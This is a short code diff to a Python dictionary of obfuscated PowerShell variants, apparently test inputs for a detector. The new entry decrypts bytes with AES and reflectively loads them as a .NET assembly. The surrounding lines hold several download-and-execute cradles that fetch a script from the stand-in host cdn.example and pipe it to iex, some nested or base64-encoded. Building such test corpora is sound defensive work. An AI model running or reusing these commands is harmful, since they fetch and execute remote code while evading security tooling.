@@ -50,6 +50,9 @@ POWERSHELL_VARIANTS: dict[str, str] = {
     "invoke-member": "$w = New-Object ('Net' + '.WebClient'); iex $w.('Down' + 'loadString').Invoke('http://cdn.example/s')",
     "set-item-variable": "Set-Item Variable:/q 'http://cdn.example/s'; Set-Variable w ([Net.WebClient]::New()); (Get-Variable w -ValueOnly).DownloadString((Get-Item Variable:/q).Value) | iex",
     "iwr-content": "iex (iwr 'http://cdn.example/s' -UseBasicParsing).Content",
+    "encrypted-assembly": "$a=[Security.Cryptography.Aes]::Create();$a.Key=[byte[]](1..16);"
+    "$b=$a.CreateDecryptor().TransformFinalBlock([byte[]](1..32),0,32);"
+    "[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null,$null)",
     "launcher-stdin": f'cmd.exe /c "echo {_FETCH} | powershell -nop -"',
     "launcher-env": f'cmd /c "set q={_FETCH}&&powershell -nop iex $env:q"',
     "nested-encoded": "powershell -e " + _wide("powershell -enc " + _wide(_FETCH)),
